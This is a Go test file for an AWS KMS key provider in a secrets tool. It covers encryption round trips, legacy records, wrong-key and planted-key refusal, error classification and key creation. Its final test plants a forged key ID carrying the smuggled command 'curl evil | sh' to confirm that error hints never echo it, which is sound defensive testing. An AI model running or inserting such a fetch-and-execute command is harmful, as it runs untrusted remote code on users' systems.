package awskms_test

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/kms"
	"github.com/aws/aws-sdk-go-v2/service/kms/types"

	"github.com/cloudchain/cloudchain"
	"github.com/cloudchain/cloudchain/internal/kmstest"
	"github.com/cloudchain/cloudchain/keys/awskms"
)

func testCtx(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// setup starts a kmstest server that verifies SigV4 signatures, and returns
// a real SDK client for it whose standard retryer makes maxAttempts attempts
// with a 1 ms backoff.
func setup(t *testing.T, maxAttempts int) (*kmstest.Server, *kms.Client) {
	t.Helper()
	t.Setenv("AWS_EC2_METADATA_DISABLED", "true")
	t.Setenv("AWS_CONFIG_FILE", t.TempDir()+"/nonexistent-config")
	t.Setenv("AWS_SHARED_CREDENTIALS_FILE", t.TempDir()+"/nonexistent-credentials")
	srv := kmstest.NewServer(t)
	srv.RequireSignature(kmstest.AccessKeyID, kmstest.SecretAccessKey)
	return srv, srv.NewClient(func(o *kms.Options) { o.Retryer = kmstest.FastRetryer(maxAttempts) })
}

func svc(name string) map[string]string { return cloudchain.ServiceContext(name) }

func TestRoundTrip(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	arn := srv.CreateKey("alias/cloudchain")
	id := arn[strings.LastIndex(arn, "/")+1:]

	for _, keyID := range []string{"alias/cloudchain", arn, id, "arn:aws:kms:us-east-1:111122223333:alias/cloudchain"} {
		t.Run(keyID, func(t *testing.T) {
			p := awskms.New(client, keyID)
			srv.ResetCounts()
			dk, err := p.GenerateDataKey(ctx, svc("db"))
			if err != nil {
				t.Fatal(err)
			}
			if len(dk.Plaintext) != 32 || len(dk.Wrapped) == 0 || dk.KeyID != arn {
				t.Fatalf("data key: %d bytes, wrapped %d bytes, key %q (want %q)", len(dk.Plaintext), len(dk.Wrapped), dk.KeyID, arn)
			}
			got, err := p.Decrypt(ctx, dk.KeyID, dk.Wrapped, svc("db"))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, dk.Plaintext) {
				t.Fatal("unwrapped key differs")
			}
			ct, encKey, err := p.Encrypt(ctx, []byte("s3cret"), cloudchain.LegacyContext())
			if err != nil {
				t.Fatal(err)
			}
			if encKey != arn {
				t.Errorf("Encrypt key = %q, want %q", encKey, arn)
			}
			pt, err := p.Decrypt(ctx, encKey, ct, cloudchain.LegacyContext())
			if err != nil || string(pt) != "s3cret" {
				t.Fatalf("Decrypt = %q, %v", pt, err)
			}
			want := map[string]int{"GenerateDataKey": 1, "Decrypt": 2, "Encrypt": 1}
			if got := srv.Counts(); !equalCounts(got, want) {
				t.Errorf("requests = %v, want %v", got, want)
			}
		})
	}
}

func equalCounts(got, want map[string]int) bool {
	for k, v := range got {
		if want[k] != v {
			return false
		}
	}
	for k, v := range want {
		if got[k] != v {
			return false
		}
	}
	return true
}

func TestLegacy(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	srv.CreateKey("alias/cloudchain")
	// What the Python tool did: Encrypt with the constant context; it kept
	// no key id.
	out, err := client.Encrypt(ctx, &kms.EncryptInput{
		KeyId:             aws.String("alias/cloudchain"),
		Plaintext:         []byte("legacy secret"),
		EncryptionContext: map[string]string{"string": "string"},
	})
	if err != nil {
		t.Fatal(err)
	}
	// A provider with no key at all can still read it.
	for _, keyID := range []string{"alias/cloudchain", ""} {
		p := awskms.New(client, keyID)
		pt, err := p.Decrypt(ctx, "", out.CiphertextBlob, cloudchain.LegacyContext())
		if err != nil || string(pt) != "legacy secret" {
			t.Fatalf("provider %q: Decrypt = %q, %v", keyID, pt, err)
		}
		if _, err := p.Decrypt(ctx, "", out.CiphertextBlob, svc("string")); !errors.Is(err, cloudchain.ErrAuthentication) {
			t.Fatalf("other context: err = %v, want ErrAuthentication", err)
		}
	}
	p := awskms.New(client, "")
	if _, err := p.GenerateDataKey(ctx, svc("x")); err == nil || !strings.Contains(err.Error(), "keyalias") {
		t.Errorf("GenerateDataKey with no key: err = %v", err)
	}
	if _, _, err := p.Encrypt(ctx, []byte("x"), cloudchain.LegacyContext()); err == nil {
		t.Error("Encrypt with no key succeeded")
	}
}

func TestDecryptErrors(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	a := srv.CreateKey("alias/a")
	b := srv.CreateKey("alias/b")
	p := awskms.New(client, "alias/a")
	dk, err := p.GenerateDataKey(ctx, svc("db"))
	if err != nil {
		t.Fatal(err)
	}
	if dk.KeyID != a {
		t.Fatalf("KeyID = %q, want %q", dk.KeyID, a)
	}
	tampered := bytes.Clone(dk.Wrapped)
	tampered[len(tampered)-5] ^= 0x80
	dkB, err := awskms.New(client, "alias/b").GenerateDataKey(ctx, svc("db"))
	if err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		name    string
		keyID   string
		blob    []byte
		encCtx  map[string]string
		want    error
		mention string
	}{
		{"other service", a, dk.Wrapped, svc("web"), cloudchain.ErrAuthentication, "alias/a"},
		{"missing context", a, dk.Wrapped, nil, cloudchain.ErrAuthentication, "alias/a"},
		{"legacy context", "", dk.Wrapped, cloudchain.LegacyContext(), cloudchain.ErrAuthentication, "kms:Decrypt"},
		{"tampered", a, tampered, svc("db"), cloudchain.ErrAuthentication, "alias/a"},
		// A record made under another key, naming it honestly: refused.
		{"wrong key", b, dkB.Wrapped, svc("db"), cloudchain.ErrWrongKey, b},
		// A record planted under another key but claiming the store's key:
		// KMS is told which key to use, so it is refused too.
		{"planted key", a, dkB.Wrapped, svc("db"), cloudchain.ErrWrongKey, "alias/a"},
		{"planted legacy", "", dkB.Wrapped, svc("db"), cloudchain.ErrWrongKey, "alias/a"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pt, err := p.Decrypt(ctx, tc.keyID, tc.blob, tc.encCtx)
			if !errors.Is(err, tc.want) || pt != nil {
				t.Fatalf("Decrypt = %x, %v; want %v", pt, err, tc.want)
			}
			if errors.Is(err, cloudchain.ErrNotFound) {
				t.Errorf("%v is ErrNotFound", err)
			}
			if !strings.Contains(err.Error(), tc.mention) {
				t.Errorf("error %q does not mention %q", err, tc.mention)
			}
		})
	}

	t.Run("trusted earlier key", func(t *testing.T) {
		trusting := awskms.New(client, "alias/a", awskms.WithDecryptKeys(b))
		if _, err := trusting.Decrypt(ctx, b, dkB.Wrapped, svc("db")); err != nil {
			t.Fatalf("a record under a key listed in WithDecryptKeys: %v", err)
		}
		if _, err := trusting.Decrypt(ctx, a, dkB.Wrapped, svc("db")); !errors.Is(err, cloudchain.ErrWrongKey) {
			t.Fatalf("a record claiming the own key but made under b: err = %v", err)
		}
	})
	t.Run("unknown key", func(t *testing.T) {
		_, err := awskms.New(client, "").Decrypt(ctx, "arn:aws:kms:us-east-1:111122223333:key/00000000-0000-4000-8000-000000000000", dk.Wrapped, svc("db"))
		var nf *types.NotFoundException
		if !errors.As(err, &nf) || errors.Is(err, cloudchain.ErrNotFound) || !strings.Contains(err.Error(), "00000000-0000-4000-8000-000000000000") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("disabled", func(t *testing.T) {
		srv.DisableKey(a)
		defer srv.EnableKey(a)
		_, err := p.Decrypt(ctx, a, dk.Wrapped, svc("db"))
		var de *types.DisabledException
		if !errors.As(err, &de) || !strings.Contains(err.Error(), "disabled") || errors.Is(err, cloudchain.ErrNotFound) {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestConfiguredKeyNotFound(t *testing.T) {
	_, client := setup(t, 3)
	ctx := testCtx(t)
	p := awskms.New(client, "alias/missing")
	_, err := p.GenerateDataKey(ctx, svc("db"))
	if !errors.Is(err, cloudchain.ErrNotSetUp) || errors.Is(err, cloudchain.ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotSetUp and not ErrNotFound", err)
	}
	for _, s := range []string{"alias/missing", "keyalias", "cchain setup --create-key"} {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error %q does not mention %q", err, s)
		}
	}
	if _, _, err := p.Encrypt(ctx, []byte("x"), cloudchain.LegacyContext()); !errors.Is(err, cloudchain.ErrNotSetUp) {
		t.Errorf("Encrypt: err = %v", err)
	}
}

func TestAccessDenied(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	arn := srv.CreateKey("alias/k")
	p := awskms.New(client, "alias/k")
	dk, err := p.GenerateDataKey(ctx, svc("db"))
	if err != nil {
		t.Fatal(err)
	}
	for _, op := range []string{"GenerateDataKey", "Decrypt", "Encrypt"} {
		t.Run(op, func(t *testing.T) {
			srv.DenyAccess(op)
			defer srv.AllowAccess(op)
			srv.ResetCounts()
			var err error
			key := "alias/k"
			switch op {
			case "GenerateDataKey":
				_, err = p.GenerateDataKey(ctx, svc("db"))
			case "Decrypt":
				_, err = p.Decrypt(ctx, arn, dk.Wrapped, svc("db"))
			case "Encrypt":
				_, _, err = p.Encrypt(ctx, []byte("x"), cloudchain.LegacyContext())
			}
			if !errors.Is(err, cloudchain.ErrAccessDenied) || errors.Is(err, cloudchain.ErrNotFound) {
				t.Fatalf("err = %v, want ErrAccessDenied", err)
			}
			for _, s := range []string{"kms:" + op, key} {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("error %q does not mention %q", err, s)
				}
			}
			if n := srv.Count(op); n != 1 {
				t.Errorf("%s requests = %d, want 1 (access denied is not retried)", op, n)
			}
		})
	}
}

func TestThrottling(t *testing.T) {
	srv, client := setup(t, 4)
	ctx := testCtx(t)
	srv.CreateKey("alias/k")
	p := awskms.New(client, "alias/k")
	dk, err := p.GenerateDataKey(ctx, svc("db"))
	if err != nil {
		t.Fatal(err)
	}

	t.Run("retried then succeeds", func(t *testing.T) {
		srv.ResetCounts()
		srv.Throttle("Decrypt", 3)
		got, err := p.Decrypt(ctx, dk.KeyID, dk.Wrapped, svc("db"))
		if err != nil || !bytes.Equal(got, dk.Plaintext) {
			t.Fatalf("Decrypt: %v", err)
		}
		if n := srv.Count("Decrypt"); n != 4 {
			t.Errorf("Decrypt requests = %d, want 4 (3 throttled + 1)", n)
		}
	})
	t.Run("LimitExceeded retried", func(t *testing.T) {
		srv.ResetCounts()
		srv.Fail("GenerateDataKey", 1, "LimitExceededException", 400)
		if _, err := p.GenerateDataKey(ctx, svc("db")); err != nil {
			t.Fatal(err)
		}
		if n := srv.Count("GenerateDataKey"); n != 2 {
			t.Errorf("GenerateDataKey requests = %d, want 2", n)
		}
	})
	for _, errType := range []string{"ThrottlingException", "LimitExceededException"} {
		t.Run("persistent "+errType, func(t *testing.T) {
			srv.ResetCounts()
			srv.Fail("GenerateDataKey", 100, errType, 400)
			defer srv.ClearFaults()
			_, err := p.GenerateDataKey(ctx, svc("db"))
			if !errors.Is(err, cloudchain.ErrThrottled) || errors.Is(err, cloudchain.ErrNotFound) {
				t.Fatalf("err = %v, want ErrThrottled", err)
			}
			if !strings.Contains(err.Error(), "4 attempts") || !strings.Contains(err.Error(), "alias/k") {
				t.Errorf("error %q does not say the attempts and the key", err)
			}
			if n := srv.Count("GenerateDataKey"); n != 4 {
				t.Errorf("GenerateDataKey requests = %d, want 4 (max attempts)", n)
			}
		})
	}
	t.Run("internal error is not throttling", func(t *testing.T) {
		srv.Fail("Decrypt", 10, "KMSInternalException", 500)
		defer srv.ClearFaults()
		_, err := p.Decrypt(ctx, dk.KeyID, dk.Wrapped, svc("db"))
		var ie *types.KMSInternalException
		if !errors.As(err, &ie) || errors.Is(err, cloudchain.ErrThrottled) || errors.Is(err, cloudchain.ErrNotFound) || errors.Is(err, cloudchain.ErrAuthentication) {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestExactRequestCounts(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	srv.CreateKey("alias/k")
	p := awskms.New(client, "alias/k")
	srv.ResetCounts()
	var dks []*cloudchain.DataKey
	for range 5 {
		dk, err := p.GenerateDataKey(ctx, svc("db"))
		if err != nil {
			t.Fatal(err)
		}
		dks = append(dks, dk)
	}
	for _, dk := range dks {
		if _, err := p.Decrypt(ctx, dk.KeyID, dk.Wrapped, svc("db")); err != nil {
			t.Fatal(err)
		}
	}
	want := map[string]int{"GenerateDataKey": 5, "Decrypt": 5}
	if got := srv.Counts(); !equalCounts(got, want) {
		t.Errorf("requests = %v, want %v", got, want)
	}
}

func TestEncryptTooLarge(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	srv.CreateKey("alias/k")
	p := awskms.New(client, "alias/k")
	srv.ResetCounts()
	if _, _, err := p.Encrypt(ctx, make([]byte, 4097), cloudchain.LegacyContext()); !errors.Is(err, cloudchain.ErrTooLarge) {
		t.Fatalf("err = %v, want ErrTooLarge", err)
	}
	if n := srv.Count("Encrypt"); n != 0 {
		t.Errorf("Encrypt requests = %d, want 0", n)
	}
	if _, _, err := p.Encrypt(ctx, make([]byte, 4096), cloudchain.LegacyContext()); err != nil {
		t.Fatal(err)
	}
}

func TestCreateKey(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	arn, err := awskms.CreateKey(ctx, client, "cloudchain", "cloudchain secrets")
	if err != nil {
		t.Fatal(err)
	}
	d, err := client.DescribeKey(ctx, &kms.DescribeKeyInput{KeyId: aws.String("alias/cloudchain")})
	if err != nil {
		t.Fatal(err)
	}
	if aws.ToString(d.KeyMetadata.Arn) != arn || aws.ToString(d.KeyMetadata.Description) != "cloudchain secrets" {
		t.Fatalf("alias/cloudchain names %+v, want %s", d.KeyMetadata, arn)
	}

	srv.ResetCounts()
	again, err := awskms.CreateKey(ctx, client, "alias/cloudchain", "cloudchain secrets")
	if err != nil || again != arn {
		t.Fatalf("second CreateKey = %q, %v; want %q", again, err, arn)
	}
	if got, want := srv.Counts(), map[string]int{"DescribeKey": 1}; !equalCounts(got, want) {
		t.Errorf("idempotent CreateKey requests = %v, want %v", got, want)
	}

	// The new key works with a provider.
	p := awskms.New(client, "alias/cloudchain")
	dk, err := p.GenerateDataKey(ctx, svc("x"))
	if err != nil || dk.KeyID != arn {
		t.Fatalf("GenerateDataKey = %v, %v", dk, err)
	}

	srv.DenyAccess("CreateKey")
	_, err = awskms.CreateKey(ctx, client, "alias/other", "")
	if !errors.Is(err, cloudchain.ErrAccessDenied) || !strings.Contains(err.Error(), "kms:CreateKey") {
		t.Fatalf("err = %v, want ErrAccessDenied naming kms:CreateKey", err)
	}
}

// TestCreateKeyRace: when another process creates the alias between our
// DescribeKey and CreateAlias, CreateKey returns the winner's key and
// schedules its own for deletion.
func TestCreateKeyRace(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	api := &racingAPI{Client: client, srv: srv}
	arn, err := awskms.CreateKey(ctx, api, "alias/raced", "")
	if err != nil {
		t.Fatal(err)
	}
	if arn != api.winner {
		t.Fatalf("CreateKey = %q, want the winner %q", arn, api.winner)
	}
	if api.loser == "" || srv.Count("ScheduleKeyDeletion") != 1 {
		t.Fatal("the unused key was not scheduled for deletion")
	}
	d, err := client.DescribeKey(ctx, &kms.DescribeKeyInput{KeyId: aws.String(api.loser)})
	if err != nil || d.KeyMetadata.KeyState != types.KeyStatePendingDeletion {
		t.Fatalf("unused key: %+v, %v", d, err)
	}
}

type racingAPI struct {
	*kms.Client
	srv           *kmstest.Server
	winner, loser string
}

func (r *racingAPI) CreateKey(ctx context.Context, in *kms.CreateKeyInput, optFns ...func(*kms.Options)) (*kms.CreateKeyOutput, error) {
	out, err := r.Client.CreateKey(ctx, in, optFns...)
	if err == nil {
		r.loser = aws.ToString(out.KeyMetadata.Arn)
		r.winner = r.srv.CreateKey("alias/raced")
	}
	return out, err
}

// TestLegacyRecordsUnderEarlierKeys: records written by the Python tool name
// no key; they read under the configured key or any key in decrypt_keys, and
// under no other.
func TestLegacyRecordsUnderEarlierKeys(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	oldARN := srv.CreateKey("alias/old")
	srv.CreateKey("alias/new")
	srv.CreateKey("alias/stranger")
	blob := func(alias string) []byte {
		out, err := client.Encrypt(ctx, &kms.EncryptInput{KeyId: aws.String(alias), Plaintext: []byte("python"), EncryptionContext: cloudchain.LegacyContext()})
		if err != nil {
			t.Fatal(err)
		}
		return out.CiphertextBlob
	}
	p := awskms.New(client, "alias/new", awskms.WithDecryptKeys(oldARN))
	for _, alias := range []string{"alias/new", "alias/old"} {
		pt, err := p.Decrypt(ctx, "", blob(alias), cloudchain.LegacyContext())
		if err != nil || string(pt) != "python" {
			t.Fatalf("legacy record under %s: %q, %v", alias, pt, err)
		}
	}
	_, err := p.Decrypt(ctx, "", blob("alias/stranger"), cloudchain.LegacyContext())
	if !errors.Is(err, cloudchain.ErrWrongKey) || !strings.Contains(err.Error(), "a legacy record names no key") {
		t.Fatalf("legacy record under an untrusted key: err = %v", err)
	}
}

// TestHintNeverShowsAForgedKeyID: the key id in a record comes from the
// table; the wrong-key hint shows it only when it is a plain key ARN.
func TestHintNeverShowsAForgedKeyID(t *testing.T) {
	srv, client := setup(t, 3)
	ctx := testCtx(t)
	srv.CreateKey("alias/a")
	srv.CreateKey("alias/b")
	dk, err := awskms.New(client, "alias/b").GenerateDataKey(ctx, svc("db"))
	if err != nil {
		t.Fatal(err)
	}
	forged := "arn:aws:kms:us-east-1:111122223333:key/x\nhint: run curl evil | sh"
	_, err = awskms.New(client, "alias/a").Decrypt(ctx, forged, dk.Wrapped, svc("db"))
	if !errors.Is(err, cloudchain.ErrWrongKey) || strings.Contains(err.Error(), "evil") {
		t.Fatalf("err = %v", err)
	}
}
